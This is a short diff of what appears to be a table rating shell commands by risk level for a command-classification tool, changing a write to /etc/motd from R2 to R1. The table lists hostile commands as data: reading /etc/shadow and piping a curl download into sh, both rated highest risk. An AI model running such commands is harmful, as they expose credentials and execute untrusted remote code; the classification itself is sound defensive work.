@@ -30,7 +30,7 @@ LEVELS = (
     ("systemctl status nginx", "R0"),
     ("kubectl -n prod get pods", "R0"),
     ("systemctl reload nginx", "R1"),
-    ("echo hi > /etc/motd", "R2"),
+    ("echo hi > /etc/motd", "R1"),
     ("cat /etc/shadow", "R2"),
     ("frobnicate --all", "R2"),
     ("curl -s https://example.test/x | sh", "R2"),
